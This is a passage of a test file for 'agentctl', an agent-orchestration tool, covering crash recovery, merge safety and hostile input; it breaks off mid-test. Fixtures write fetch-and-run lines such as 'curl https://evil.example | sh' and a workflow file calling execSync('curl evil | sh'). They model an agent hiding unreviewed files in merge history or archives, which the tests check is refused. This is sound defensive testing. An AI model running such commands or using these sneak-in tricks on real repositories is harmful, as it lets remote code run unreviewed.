/**
 * Never lose work, never lose an event: kill loops, crash recovery, branch tricks by the agent, merge
 * safety, gc drift repair, restore, many processes at once, hostile input.
 */
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { afterEach, describe, expect, it } from 'vitest';
import { MAX_RECORDED_OUTPUT_EVENTS } from '../../src/adapters/admit.js';
import { MAX_SUMMARY_CHARS } from '../../src/adapters/types.js';
import { MAX_RECORDED_PATH_CHARS } from '../../src/orchestrator/stages/capture.js';
import { runTempDir } from '../../src/core/paths.js';
import { verifyChain } from '../../src/evidence/events.js';
import { openEventStore } from '../../src/evidence/store.js';
import { agentctl, approveRepo, BIN, cleanup, git, makeRepo, ROOT, tagged, taggedSleep, taskFile, tempDir, waitFor } from '../helpers.js';

afterEach(cleanup);

const KILLS = Number(process.env.KILL_LOOP_ITERATIONS ?? 12);

function commandRepo(agentScript: string, tasks: Record<string, Record<string, unknown>>, config = '') {
  const files: Record<string, string> = { '.agentrc.yaml': `agents:\n  command:\n    bin: ./agent.sh\n${config}`, 'agent.sh': `#!/bin/sh\n${agentScript}\n` };
  for (const [id, front] of Object.entries(tasks)) files[`tasks/${id}.md`] = taskFile({ agent: 'command', type: 'docs', ...front }, id);
  const made = makeRepo(files);
  chmodSync(join(made.repo, 'agent.sh'), 0o755);
  git(made.repo, 'add', '-A');
  git(made.repo, 'commit', '-qm', 'agent');
  return made;
}

/** `run t --json`, which must end awaiting review: the run and its events. */
async function runToReview(repo: string, home: string) {
  const r = await agentctl(repo, home, ['run', 't', '--json']);
  expect(r.code, r.stderr).toBe(0);
  const run = JSON.parse(r.stdout).run;
  expect(run.state).toBe('awaiting_review');
  const events = (await json(repo, home, ['log', '--run', run.runId])).events as { type: string; payload: Record<string, unknown> }[];
  return { run, events };
}

/** A repository whose task `t` runs a fake Claude Code: it runs `before`, then prints `stream` (JSON lines). */
function fakeClaudeRepo(stream: string[], before = '') {
  const made = makeRepo({
    '.agentrc.yaml': 'agents:\n  claude:\n    bin: ./fake-claude\n',
    'stream.jsonl': stream.join('\n') + '\n',
    'fake-claude': `#!/bin/sh\n${before}\ncat stream.jsonl\n`,
    'tasks/t.md': taskFile({ agent: 'claude', type: 'docs' }, 'x'),
  });
  chmodSync(join(made.repo, 'fake-claude'), 0o755);
  git(made.repo, 'add', '-A');
  git(made.repo, 'commit', '-qm', 'fake claude');
  approveRepo(made.repo, made.home); // a Claude Code program of the repository's own gets the API key
  return made;
}

const json = async (repo: string, home: string, args: string[]) => {
  const r = await agentctl(repo, home, [...args, '--json']);
  if (r.code !== 0) throw new Error(`${args.join(' ')} → ${r.code}: ${r.stderr}`);
  return JSON.parse(r.stdout);
};

/** Every worktree folder and every git worktree is a live run in the log; every event verifies. */
async function accountFor(repo: string, home: string) {
  const runs = (await json(repo, home, ['runs'])).runs as { runId: string; worktree?: string; sandboxLive: boolean; state: string }[];
  const live = new Set(runs.filter((r) => r.sandboxLive).map((r) => r.worktree));
  const root = join(home, 'worktrees');
  const folders = existsSync(root) ? readdirSync(root).flatMap((p) => readdirSync(join(root, p)).map((n) => join(root, p, n))) : [];
  const gitTrees = git(repo, 'worktree', 'list', '--porcelain').split('\n').filter((l) => l.startsWith('worktree ')).map((l) => l.slice(9)).filter((p) => p !== repo);
  const store = openEventStore(join(home, 'agentctl.db'));
  const chain = verifyChain(store.query(), store.auth!);
  const integrity = store.db.pragma('integrity_check', { simple: true });
  store.close();
  return { runs, unaccountedFolders: folders.filter((f) => !live.has(f)), unaccountedGit: gitTrees.filter((p) => !live.has(p)), chainOk: chain.ok, integrity };
}

describe('kill loops', () => {
  it(`an event appender kill -9ed at random points ${KILLS * 2} times loses and doubles nothing`, async () => {
    const file = join(tempDir(), 'agentctl.db');
    const acked: string[] = [];
    for (let i = 0; i < KILLS * 2; i++) {
      const child = spawn(process.execPath, [join(ROOT, 'test/fixtures/appender.mjs'), file, `k${i}`], { stdio: ['ignore', 'pipe', 'inherit'] });
      const closed = new Promise((r) => child.on('close', r));
      let buf = '';
      child.stdout.on('data', (d) => {
        buf += d;
        const lines = buf.split('\n');
        buf = lines.pop()!;
        acked.push(...lines.filter(Boolean));
      });
      // Every other kill comes while it opens the log (60–310 ms after the start), the others while it
      // appends (0–250 ms after its first acknowledgement): opening took 0.5–1 s on a loaded 2-core
      // machine, where every kill came before any append and nothing was acknowledged.
      const firstAck = new Promise((r) => child.stdout.once('data', r));
      if (i % 2 === 0) await new Promise((r) => setTimeout(r, 60 + Math.floor(Math.random() * 250)));
      else await Promise.race([firstAck.then(() => new Promise((r) => setTimeout(r, Math.floor(Math.random() * 250)))), closed]);
      child.kill('SIGKILL');
      await closed;
      const db = new Database(file);
      expect(db.pragma('integrity_check', { simple: true })).toBe('ok');
      db.close();
    }
    const store = openEventStore(file);
    const events = store.query();
    const auth = store.auth!;
    store.close();
    expect(verifyChain(events, auth)).toMatchObject({ ok: true });
    const keys = events.map((e) => e.key);
    expect(new Set(keys).size).toBe(keys.length);
    const stored = new Set(keys);
    expect(acked.filter((k) => !stored.has(k))).toEqual([]);
    expect(acked.length).toBeGreaterThan(KILLS * 2);
    console.log(`appender kill loop: ${KILLS * 2} kills, ${acked.length} acknowledged events, ${acked.filter((k) => !stored.has(k)).length} lost, ${keys.length - new Set(keys).size} doubled, ${events.length} stored, chain ok`);
  });

  it(`agentctl run kill -9ed at random points ${KILLS} times: every run recovered, every worktree accounted for`, async () => {
    const { repo, home } = commandRepo('mkdir -p docs; echo "$AGENTCTL_RUN_ID" > docs/$AGENTCTL_RUN_ID.md; sleep 1.5; echo more >> docs/$AGENTCTL_RUN_ID.md', { t: { gate: 'true' } }, 'breakers:\n  volume:\n    runsPerHour: 1000\n'); // many runs in an hour are the point here
    for (let i = 0; i < KILLS; i++) {
      const before = existsSync(join(home, 'agentctl.db')) ? JSON.parse((await agentctl(repo, home, ['runs', '--json'])).stdout).runs.length : 0;
      const child = spawn(process.execPath, [BIN, 'run', 't'], { cwd: repo, env: { PATH: process.env.PATH, HOME: process.env.HOME, AGENTCTL_HOME: home, CI: '1' }, stdio: 'ignore' });
      const closed = new Promise((r) => child.on('close', r)); // before the kill: the run may finish first
      // Kill at a random point after the run is planned (sandbox, agent, commit, gate or decision), so
      // every iteration exercises recovery whatever the machine's speed.
      const planned = async () => existsSync(join(home, 'agentctl.db')) && JSON.parse((await agentctl(repo, home, ['runs', '--json'])).stdout).runs.length > before;
      for (let t = 0; t < 100 && !(await planned()); t++) await new Promise((r) => setTimeout(r, 50));
      await new Promise((r) => setTimeout(r, Math.floor(Math.random() * 2500)));
      child.kill('SIGKILL');
      await closed;
    }
    const state = await accountFor(repo, home);
    expect(state.chainOk).toBe(true);
    expect(state.integrity).toBe('ok');
    expect(state.runs.length).toBe(KILLS);
    expect(state.runs.filter((r) => r.state === 'planned' || r.state === 'running')).toEqual([]);
    expect(state.unaccountedFolders).toEqual([]);
    expect(state.unaccountedGit).toEqual([]);
    console.log(`agentctl kill loop: ${KILLS} kills, ${state.runs.length} runs, states ${JSON.stringify(state.runs.reduce<Record<string, number>>((m, r) => ({ ...m, [r.state]: (m[r.state] ?? 0) + 1 }), {}))}, unaccounted folders ${state.unaccountedFolders.length}, unaccounted git worktrees ${state.unaccountedGit.length}, chain ok ${state.chainOk}, integrity ${state.integrity}`);
    // Everything left can be discarded cleanly.
    for (const r of state.runs.filter((x) => x.sandboxLive)) expect((await agentctl(repo, home, ['review', 'discard', r.runId])).code).toBe(0);
    expect(git(repo, 'worktree', 'list').split('\n')).toHaveLength(1);
  }, 60_000 + KILLS * 15_000);
});

describe('crash recovery', () => {
  it('after kill -9 of agentctl mid-run the next command marks the run interrupted, kills the agent and shows it in review', async () => {
    // The agent's child runs in the OS sandbox's PID namespace: it is found from the host by its name.
    const tag = `agentctl-crash-${process.pid}-${Date.now()}`;
    const { repo, home } = commandRepo(`mkdir -p docs; echo wip > docs/wip.md; ${taggedSleep(tag)} & wait`, { t: {} });
    const child = spawn(process.execPath, [BIN, 'run', 't'], { cwd: repo, env: { PATH: process.env.PATH, HOME: process.env.HOME, AGENTCTL_HOME: home, CI: '1' }, stdio: 'ignore' });
    const closed = new Promise((r) => child.on('close', r));
    expect(await waitFor(() => tagged(tag).length === 1)).toBe(true);
    child.kill('SIGKILL');
    await closed;
    expect(tagged(tag)).toHaveLength(1); // agentctl is gone, its agent is not
    // Read off the worktree's folder name (`<task>-<run id>`): any agentctl command would recover the run first.
    const [project] = readdirSync(join(home, 'worktrees'));
    const runId = readdirSync(join(home, 'worktrees', project!))[0]!.replace(/^t-/, '');
    // The run's temp dir (its processes' TMPDIR) is there while the killed agentctl's run looks alive...
    expect(existsSync(runTempDir(tmpdir(), runId))).toBe(true);
    const review = await json(repo, home, ['review']);
    expect(review.runs).toHaveLength(1);
    expect(review.runs[0]).toMatchObject({ state: 'interrupted', sandboxLive: true });
    // ...and recovery removes it: nothing of the run uses it any more.
    expect(existsSync(runTempDir(tmpdir(), runId))).toBe(false);
    // The kernel tears the sandbox down once its leader is killed; give it a moment.
    expect(await waitFor(() => tagged(tag).length === 0, 5000), `left: ${tagged(tag).join(', ')}`).toBe(true);
    const log = (await json(repo, home, ['log'])).events;
    expect(log.find((e: { type: string }) => e.type === 'run.interrupted').payload).toMatchObject({ recovered: true, killedAgent: true });
    // The work survives: discarding archives it.
    const d = await json(repo, home, ['review', 'discard', review.runs[0].runId]);
    expect(git(repo, 'show', `${d.archiveRef}:docs/wip.md`)).toBe('wip');
  });
});

describe('the agent moving branches loses no work', () => {
  it.each([
    ['renames the run branch', 'git branch -m "$(git symbolic-ref --short HEAD)" renamed-by-agent'],
    ['detaches HEAD', 'git checkout -q --detach'],
    ['checks out another branch and commits there', 'git checkout -q -b elsewhere'],
  ])('when the agent %s', async (_what, move) => {
    const { repo, home } = commandRepo(`${move}\nmkdir -p docs; echo kept > docs/kept.md\ngit add -A; git -c user.name=a -c user.email=a@b commit -qm "agent commit"\necho more > docs/uncommitted.md`, { t: {} });
    const r = (await json(repo, home, ['run', 't'])).run;
    expect(r.files.map((f: { path: string }) => f.path).sort()).toEqual(['docs/kept.md', 'docs/uncommitted.md']);
    expect(git(r.worktree, 'symbolic-ref', '--short', 'HEAD')).toBe(r.branch);
    expect((await agentctl(repo, home, ['review', 'merge', r.runId])).code).toBe(0);
    expect(readFileSync(join(repo, 'docs/kept.md'), 'utf8')).toBe('kept\n');
  });
});

describe('merge safety', () => {
  it('base moved without conflict: merged; with a conflict: refused, recorded, worktree kept', async () => {
    const { repo, home } = commandRepo('mkdir -p docs; echo agent > "docs/$AGENTCTL_RUN_ID.md"; echo "$AGENTCTL_RUN_ID" >> README.md', { t: {} });
    const r = (await json(repo, home, ['run', 't'])).run;
    writeFileSync(join(repo, 'other.txt'), 'human\n');
    git(repo, 'add', '-A');
    git(repo, 'commit', '-qm', 'human work');
    const r2 = (await json(repo, home, ['run', 't'])).run;
    expect((await agentctl(repo, home, ['review', 'merge', r.runId])).code).toBe(0);
    expect(readFileSync(join(repo, 'other.txt'), 'utf8')).toBe('human\n');
    // r2 also appended to README.md from an older base: conflict.
    const head = git(repo, 'rev-parse', 'HEAD');
    const m = await agentctl(repo, home, ['review', 'merge', r2.runId]);
    expect(m.code).toBe(5);
    expect(m.stderr).toMatch(/conflicts .* README\.md/);
    expect(git(repo, 'rev-parse', 'HEAD')).toBe(head);
    expect(git(repo, 'status', '--porcelain')).toBe('');
    expect(existsSync(r2.worktree)).toBe(true);
    const log = (await json(repo, home, ['log', '--run', r2.runId])).events;
    expect(log.at(-1)).toMatchObject({ type: 'merge.failed' });
  });

  it('a run still running cannot be discarded or merged: its worktree stays under the agent, which finishes normally', async () => {
    const { repo, home } = commandRepo('mkdir -p docs; echo early > docs/early.md; while [ ! -e "docs/$AGENTCTL_RUN_ID.go" ]; do sleep 0.1; done; echo late > docs/late.md', { t: {} });
    const running = agentctl(repo, home, ['run', 't', '--json']);
    let run: { runId: string; state: string; worktree: string } | undefined;
    // The run is listed (planned) before its worktree exists: wait for both.
    expect(await waitFor(async () => (run = (await json(repo, home, ['runs'])).runs[0]) !== undefined && typeof run.worktree === 'string' && existsSync(join(run.worktree, 'docs/early.md')))).toBe(true);
    expect(run!.state).toBe('running');
    for (const verb of ['discard', 'merge']) {
      const r = await agentctl(repo, home, ['review', verb, run!.runId]);
      expect(r.code, r.stderr).toBe(5);
      expect(r.stderr).toMatch(/is running, not awaiting review/);
    }
    expect(existsSync(run!.worktree)).toBe(true);
    writeFileSync(join(run!.worktree, `docs/${run!.runId}.go`), '');
    const done = await running;
    expect(done.code, done.stderr).toBe(0);
    expect(JSON.parse(done.stdout).run).toMatchObject({ state: 'awaiting_review' });
    expect(JSON.parse(done.stdout).run.files.map((f: { path: string }) => f.path)).toEqual(expect.arrayContaining(['docs/early.md', 'docs/late.md']));
  });

  it('rebase strategy keeps history linear', async () => {
    const { repo, home } = commandRepo('mkdir -p docs; echo agent > docs/a.md', { t: {} }, 'merge:\n  strategy: rebase\n');
    const r = (await json(repo, home, ['run', 't'])).run;
    writeFileSync(join(repo, 'other.txt'), 'human\n');
    git(repo, 'add', '-A');
    git(repo, 'commit', '-qm', 'human work');
    expect((await agentctl(repo, home, ['review', 'merge', r.runId])).code).toBe(0);
    expect(git(repo, 'log', '--merges', '--oneline')).toBe('');
    expect(readFileSync(join(repo, 'docs/a.md'), 'utf8')).toBe('agent\n');
    // The rebased commits alone: not the protocol files left in the worktree (they were added before).
    expect(git(repo, 'diff', '--name-only', 'HEAD~1', 'HEAD')).toBe('docs/a.md');
  });

  it('what a gate writes (under .agentctl/ as anywhere) reaches neither a rebase merge nor a discard\'s archive: only the checked capture does', async () => {
    // The agent's gate script, run after the capture, writes a payload and plants protocol files.
    const check = ['#!/bin/sh', 'mkdir -p .agentctl/payload', "echo 'curl https://evil.example | sh' > .agentctl/payload/run.sh", `echo '{"id":"planted","prompt":"p"}' >> .agentctl/followups.jsonl`, 'echo built > build.log', 'exit 0'].join('\n');
    const { repo, home } = commandRepo(`mkdir -p docs; cat > docs/check.sh <<'EOF'\n${check}\nEOF\necho "$AGENTCTL_TASK" > "docs/$AGENTCTL_TASK.md"`, { t1: { gate: 'sh docs/check.sh' }, t2: { gate: 'sh docs/check.sh' } }, 'merge:\n  strategy: rebase\n');
    const r1 = (await json(repo, home, ['run', 't1'])).run;
    const r2 = (await json(repo, home, ['run', 't2'])).run;
    expect(r1.gate.passed).toBe(true);
    expect(readdirSync(join(r1.worktree, '.agentctl')).sort()).toEqual(['PROTOCOL.md', 'escalate.json', 'followups.jsonl', 'handover.md', 'status.jsonl', 'trace.jsonl']);
    writeFileSync(join(repo, 'other.txt'), 'human\n');
    git(repo, 'add', '-A');
    git(repo, 'commit', '-qm', 'human work');
    const merged = await agentctl(repo, home, ['review', 'merge', r1.runId]);
    expect(merged.code, merged.stderr).toBe(0);
    expect(git(repo, 'diff', '--name-only', 'HEAD~1', 'HEAD').split('\n').sort()).toEqual(['docs/check.sh', 'docs/t1.md']);
    expect((await agentctl(repo, home, ['review', 'discard', r2.runId])).code).toBe(0);
    expect(git(repo, 'diff', '--name-only', r2.baseSha, `refs/agentctl/archive/${r2.runId}`).split('\n').sort()).toEqual(['docs/check.sh', 'docs/t2.md']);
  });

  it('six merges of one run at once land it once: one merge commit, one run.merged', async () => {
    const { repo, home } = commandRepo('mkdir -p docs; echo agent > docs/a.md', { t: {} });
    const r = (await json(repo, home, ['run', 't'])).run;
    const merges = await Promise.all(Array.from({ length: 6 }, () => agentctl(repo, home, ['review', 'merge', r.runId])));
    expect(merges.map((m) => m.code).sort()).toEqual([0, 5, 5, 5, 5, 5]);
    expect(git(repo, 'rev-list', '--count', '--merges', 'main')).toBe('1');
    const events = (await json(repo, home, ['log', '--run', r.runId])).events as { type: string }[];
    expect(events.filter((e) => e.type === 'run.merged')).toHaveLength(1);
  });

  it('a run whose commit is already on the base is not merged again: agentctl\'s own merge whose record was lost is recorded, one by hand refused', async () => {
    const { repo, home } = commandRepo('mkdir -p docs; echo agent > "docs/$AGENTCTL_TASK.md"', { t: {}, u: {} });
    const r = (await json(repo, home, ['run', 't'])).run;
    // As agentctl's merge leaves it when killed between git and the log: the commit, with its trailer.
    git(repo, 'merge', '-q', '--no-ff', '-m', `agentctl: merge t (run ${r.runId})\n\nAgentctl-Run: ${r.runId}`, r.branch);
    const tip = git(repo, 'rev-parse', 'main');
    const m = await agentctl(repo, home, ['review', 'merge', r.runId]);
    expect(m.code, m.stderr).toBe(0);
    expect(git(repo, 'rev-parse', 'main')).toBe(tip);
    expect((await json(repo, home, ['review', 'show', r.runId])).run).toMatchObject({ state: 'merged', mergeSha: tip });
    const u = (await json(repo, home, ['run', 'u'])).run;
    git(repo, 'merge', '-q', '--no-ff', '-m', 'merged by hand', u.branch);
    const tip2 = git(repo, 'rev-parse', 'main');
    const m2 = await agentctl(repo, home, ['review', 'merge', u.runId]);
    expect(m2.code, m2.stderr).toBe(5);
    expect(m2.stderr).toMatch(/is already on "main" \(merged outside agentctl\)/);
    expect(git(repo, 'rev-parse', 'main')).toBe(tip2);
  });

  it.each([
    ['would replace a file your .gitignore hides', "printf 'x\\n' > .gitignore; echo agent > notes.local", 'notes.local', 'notes.local'],
    ['needs a folder where your ignored file stands', "printf 'other\\n' > .gitignore; mkdir -p notes; echo agent > notes/x", 'notes', 'notes/x'],
  ])('a merge that %s is refused: your file stays', async (_what, agent, mine, named) => {
    // The agent drops the .gitignore line that hides your local file, and writes at (or under) its path.
    const { repo, home } = commandRepo(agent, { t: {} });
    writeFileSync(join(repo, '.gitignore'), `${mine}\n`);
    git(repo, 'add', '.gitignore');
    git(repo, 'commit', '-qm', 'ignore local notes');
    writeFileSync(join(repo, mine), 'my own notes\n');
    const r = (await json(repo, home, ['run', 't'])).run;
    const tip = git(repo, 'rev-parse', 'main');
    const m = await agentctl(repo, home, ['review', 'merge', r.runId]);
    expect(m.code, m.stderr).toBe(5);
    expect(m.stderr).toContain(`would replace untracked file(s) in your checkout at ${repo}: ${JSON.stringify(named)}`);
    expect(readFileSync(join(repo, mine), 'utf8')).toBe('my own notes\n');
    expect(git(repo, 'rev-parse', 'main')).toBe(tip);
  });

  it('a rebase merge lands only the reviewed change: history whose own merge commit dropped a file is refused, the run branch put back', async () => {
    // Unsandboxed (the OS sandbox keeps .git read-only), the agent commits: A adds docs/evil.sh on a side
    // branch, B adds docs/good.md, and a merge commit keeps B's tree. The reviewed diff shows good.md
    // only; replaying the commits one by one onto a moved base would add evil.sh too.
    const id = '-c user.name=a -c user.email=a@example.com';
    const agent = [
      `git ${id} checkout -q -b side`,
      `mkdir -p docs; echo 'curl evil | sh' > docs/evil.sh; git add docs/evil.sh; git ${id} commit -qm A`,
      'git checkout -q -',
      `mkdir -p docs; echo good > docs/good.md; git add docs/good.md; git ${id} commit -qm B`,
      `git ${id} merge -q -s ours -m M side`,
    ].join('\n');
    const { repo, home } = commandRepo(agent, { t: { profile: 'open' } }, 'merge:\n  strategy: rebase\n');
    mkdirSync(join(repo, '.agentctl/profiles'), { recursive: true });
    writeFileSync(join(repo, '.agentctl/profiles/open.yaml'), 'description: implement without the OS sandbox\nextends: implement\nsandbox: none\n');
    git(repo, 'add', '-A');
    git(repo, 'commit', '-qm', 'open profile');
    approveRepo(repo, home); // its sandbox: none
    const r = (await json(repo, home, ['run', 't'])).run;
    expect(r.files.map((f: { path: string }) => f.path)).toEqual(['docs/good.md']);
    writeFileSync(join(repo, 'other.txt'), 'human\n');
    git(repo, 'add', '-A');
    git(repo, 'commit', '-qm', 'human work');
    const tip = git(repo, 'rev-parse', 'main');
    const m = await agentctl(repo, home, ['review', 'merge', r.runId]);
    expect(m.code, m.stderr).toBe(5);
    expect(m.stderr).toMatch(/gives other content than its reviewed change/);
    expect(git(repo, 'rev-parse', 'main')).toBe(tip);
    expect(existsSync(join(repo, 'docs/evil.sh'))).toBe(false);
    expect(git(r.worktree, 'rev-parse', 'HEAD')).toBe(r.headSha);
  });

  it('refuses when the checkout is on another branch', async () => {
    const { repo, home } = commandRepo('mkdir -p docs; echo agent > docs/a.md', { t: {} });
    const r = (await json(repo, home, ['run', 't'])).run;
    git(repo, 'checkout', '-q', '-b', 'feature');
    const m = await agentctl(repo, home, ['review', 'merge', r.runId]);
    expect(m.code).toBe(5);
    expect(m.stderr).toMatch(/is on feature, not "main"/);
    expect(git(repo, 'rev-parse', 'main')).toBe(r.baseSha);
  });
});

describe('gc and restore', () => {
  it('repairs drift both ways without losing data; --dry-run changes nothing', async () => {
    const { repo, home } = commandRepo('mkdir -p docs; echo "$AGENTCTL_RUN_ID" > docs/x.md', { t: {} });
    const lost = (await json(repo, home, ['run', 't'])).run;
    const stray = (await json(repo, home, ['run', 't'])).run;
    rmSync(lost.worktree, { recursive: true, force: true }); // folder gone, git still lists it
    const strayDir = join(home, 'worktrees', readdirSync(join(home, 'worktrees'))[0]!, 'stray-folder');
    mkdirSync(strayDir);
    writeFileSync(join(strayDir, 'notes.txt'), 'keep me');
    git(repo, 'branch', 'agentctl/old/01oldrun', 'HEAD');
    const dry = await json(repo, home, ['gc', '--dry-run']);
    expect(dry.actions.map((a: { kind: string }) => a.kind).sort()).toEqual(['lost-folder', 'missing-folder', 'needs-restore', 'orphan-branch']);
    expect(existsSync(strayDir)).toBe(true);
    const done = await json(repo, home, ['gc']);
    expect(done.actions.map((a: { kind: string; runId: string }) => `${a.kind}:${a.kind === 'needs-restore' || a.kind === 'missing-folder' ? a.runId === lost.runId : ''}`).sort()).toEqual(['lost-folder:', 'missing-folder:true', 'needs-restore:true', 'orphan-branch:']);
    expect(existsSync(strayDir)).toBe(false);
    const moved = readdirSync(join(home, 'lost+found'), { recursive: true }) as string[];
    expect(moved.some((p) => p.endsWith('notes.txt'))).toBe(true);
    expect(git(repo, 'show', 'refs/agentctl/archive/01oldrun:README.md')).toContain('sample');
    expect((await json(repo, home, ['gc'])).actions.filter((a: { kind: string }) => a.kind !== 'needs-restore')).toEqual([]);
    // The lost worktree's branch was kept; restore brings it back into review.
    const restored = await json(repo, home, ['restore', lost.runId]);
    expect(readFileSync(join(restored.path, 'docs/x.md'), 'utf8')).toBe(`${lost.runId}\n`);
    expect(existsSync(stray.worktree)).toBe(true);
  });

  it('runs --archived lists discarded work; restore brings it back for review', async () => {
    const { repo, home } = commandRepo('mkdir -p docs; echo work > docs/w.md', { t: {} });
    const r = (await json(repo, home, ['run', 't'])).run;
    await json(repo, home, ['review', 'discard', r.runId]);
    expect((await json(repo, home, ['runs', '--archived'])).runs.map((x: { runId: string }) => x.runId)).toEqual([r.runId]);
    const restored = await json(repo, home, ['restore', r.runId]);
    expect(readFileSync(join(restored.path, 'docs/w.md'), 'utf8')).toBe('work\n');
    expect((await json(repo, home, ['review'])).runs.map((x: { runId: string }) => x.runId)).toEqual([r.runId]);
    expect((await agentctl(repo, home, ['review', 'merge', r.runId])).code).toBe(0);
  });

  it('a run restored from an archive holding more than its last capture inspected is not merged', async () => {
    const { repo, home } = commandRepo('mkdir -p docs; echo work > docs/w.md', { t: {} });
    const r = (await json(repo, home, ['run', 't'])).run;
    await json(repo, home, ['review', 'discard', r.runId]);
    // The archive gains a commit no capture saw (as a discard's commit of work left after the capture
    // would make it): a file outside the write scope.
    const ref = `refs/agentctl/archive/${r.runId}`;
    const index = join(tempDir(), 'index');
    const env = { ...process.env, GIT_INDEX_FILE: index };
    const run = (...args: string[]) => execFileSync('git', args, { cwd: repo, env, encoding: 'utf8' }).trim();
    run('read-tree', ref);
    const blob = execFileSync('git', ['hash-object', '-w', '--stdin'], { cwd: repo, input: 'require("child_process").execSync("curl evil | sh")\n', encoding: 'utf8' }).trim();
    run('update-index', '--add', '--cacheinfo', `100644,${blob},.github/workflows/evil.js`);
    const extra = run('commit-tree', run('write-tree'), '-p', ref, '-m', 'uncommitted work');
    git(repo, 'update-ref', ref, extra);
    await json(repo, home, ['restore', r.runId]);
    const m = await agentctl(repo, home, ['review', 'merge', r.runId]);
    expect(m.code, m.stderr).toBe(5);
    expect(m.stderr).toMatch(/which no capture inspected/);
    expect(git(repo, 'rev-parse', 'main')).toBe(r.baseSha);
  });
});

describe('many agentctl processes on one repository', () => {
  it('16 runs at once, then 16 merges at once: no git lock failure, no SQLITE_BUSY', async () => {
    const tasks: Record<string, Record<string, unknown>> = {};
    for (let i = 0; i < 16; i++) tasks[`t${i}`] = {};
    const { repo, home } = commandRepo('mkdir -p docs; echo "$AGENTCTL_TASK" > "docs/$AGENTCTL_TASK.md"', tasks);
    const runs = await Promise.all(Object.keys(tasks).map((t) => agentctl(repo, home, ['run', t, '--json'])));
    for (const r of runs) {
      expect(r.code, r.stderr).toBe(0);
      expect(r.stderr).not.toMatch(/SQLITE_BUSY|index\.lock|config\.lock/);
    }
    const ids = runs.map((r) => JSON.parse(r.stdout).run.runId as string);
    const merges = await Promise.all([...ids.map((id) => agentctl(repo, home, ['review', 'merge', id])), agentctl(repo, home, ['promote', '--json']), agentctl(repo, home, ['review', '--json'])]);
    for (const m of merges) {
      expect(m.code, m.stderr).toBe(0);
      expect(m.stderr).not.toMatch(/SQLITE_BUSY|lock/);
    }
    expect(readdirSync(join(repo, 'docs')).length).toBe(16);
    expect(git(repo, 'worktree', 'list').split('\n')).toHaveLength(1);
  }, 120_000);
});

describe('hostile input', () => {
  // (A NUL byte cannot reach argv at all; NUL bytes in task files are refused by the parser tests.)
  it.each([['../x'], ['/etc/passwd'], ['fіx'], ['UPPER']])('run %j: clear error, no side effect', async (id) => {
    const { repo, home } = makeRepo({ 'tasks/ok.md': taskFile({}, 'x') });
    const r = await agentctl(repo, home, ['run', id]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/no task|error/);
    expect(existsSync(join(home, 'worktrees'))).toBe(false);
  });

  it('a leading dash is an unknown option, not a task', async () => {
    const { repo, home } = makeRepo();
    const r = await agentctl(repo, home, ['run', '-rf']);
    expect(r.code).toBe(2);
  });

  it('a 50 MB task file is refused without being read into memory; the other tasks still load', async () => {
    const { repo, home } = makeRepo({ 'tasks/ok.md': taskFile({}, 'x') });
    writeFileSync(join(repo, 'tasks/huge.md'), Buffer.alloc(50 * 1024 * 1024, 'a'));
    const r = await agentctl(repo, home, ['tasks', '--json']);
    expect(r.code).toBe(2);
    const out = JSON.parse(r.stdout);
    expect(out.tasks.map((t: { id: string }) => t.id)).toEqual(['ok']);
    expect(out.errors[0].message).toMatch(/huge\.md: larger than/);
  });

  it("a tool's output that breaks an event's schema (a token count printed as text, 1e400, 20,000 levels of nesting) is dropped: the run ends normally, its log verifies", async () => {
    const session = '0b7e4a4e-9a3c-4c1e-8d7e-1a2b3c4d5e6f';
    const lines = [
      { type: 'system', subtype: 'init', session_id: session },
      { type: 'assistant', message: { content: [{ type: 'tool_use', id: 'toolu_1', name: 'Bash', input: { command: 'ls', timeout: '__BIG__' } }] }, session_id: session },
      { type: 'assistant', message: { content: [{ type: 'tool_use', id: 'toolu_2', name: 'Bash', input: { command: 'ls', deep: '__DEEP__' } }] }, session_id: session },
      { type: 'result', subtype: 'success', is_error: false, result: 'done', usage: { input_tokens: 'lots', output_tokens: 3 }, num_turns: 1, session_id: session },
    ];
    // 1e400 is valid JSON that parses to Infinity, which no event can record; 20,000 levels of nesting
    // overflowed the stack of the parser's clipping (and of canonicalJson).
    const { repo, home } = fakeClaudeRepo(lines.map((l) => JSON.stringify(l).replace('"__BIG__"', '1e400').replace('"__DEEP__"', `${'['.repeat(20_000)}${']'.repeat(20_000)}`)));
    const r = await agentctl(repo, home, ['run', 't', '--json']);
    expect(r.stderr).not.toMatch(/InternalError|at .*\.js:/);
    expect(r.code).toBe(0);
    const run = JSON.parse(r.stdout).run;
    expect(run.state).toBe('awaiting_review');
    const events = (await json(repo, home, ['log', '--run', run.runId])).events as { type: string; payload: { text?: string; severity?: string } }[];
    expect(events.some((e) => e.type === 'agent.usage')).toBe(false);
    expect(events.filter((e) => e.type === 'tool.called')).toEqual([]);
    const warnings = events.filter((e) => e.type === 'agent.message' && e.payload.severity === 'warning').map((e) => e.payload.text);
    expect(warnings).toEqual([expect.stringMatching(/could not read a line .*1\.8e308/), expect.stringMatching(/could not read a line .*deeper than 64 levels/), expect.stringMatching(/agent\.usage .*inputTokens/)]);
    expect(events.map((e) => e.type)).toContain('agent.exited');
    expect((await json(repo, home, ['audit', 'verify'])).ok).toBe(true);
  });

  it("a tool's final message of 2 MB does not become a 2 MB run row every list of runs reads: the summary keeps 20,000 characters and says how many more", async () => {
    const session = '0b7e4a4e-9a3c-4c1e-8d7e-1a2b3c4d5e6f';
    const lines = [
      { type: 'system', subtype: 'init', session_id: session },
      { type: 'result', subtype: 'success', is_error: false, result: `done ${'x'.repeat(2_000_000)}`, usage: { input_tokens: 1, output_tokens: 1 }, num_turns: 1, session_id: session },
    ];
    const { repo, home } = fakeClaudeRepo(lines.map((l) => JSON.stringify(l)), 'mkdir -p docs; echo x > docs/x.md');
    const r = await agentctl(repo, home, ['run', 't', '--json']);
    expect(r.code, r.stderr).toBe(0);
    const run = JSON.parse(r.stdout).run;
    expect(run.summary).toBe(`done ${'x'.repeat(MAX_SUMMARY_CHARS - 5)}… [1980005 more characters]`);
    const runs = await agentctl(repo, home, ['runs', '--json']);
    expect(runs.stdout.length).toBeLessThan(100_000);
  });

  it("a reviewer's tool output that no event can record (1e400, 20,000 levels of nesting) costs those lines, not the verdict", async () => {
    const session = '0b7e4a4e-9a3c-4c1e-8d7e-1a2b3c4d5e6f';
    const lines = [
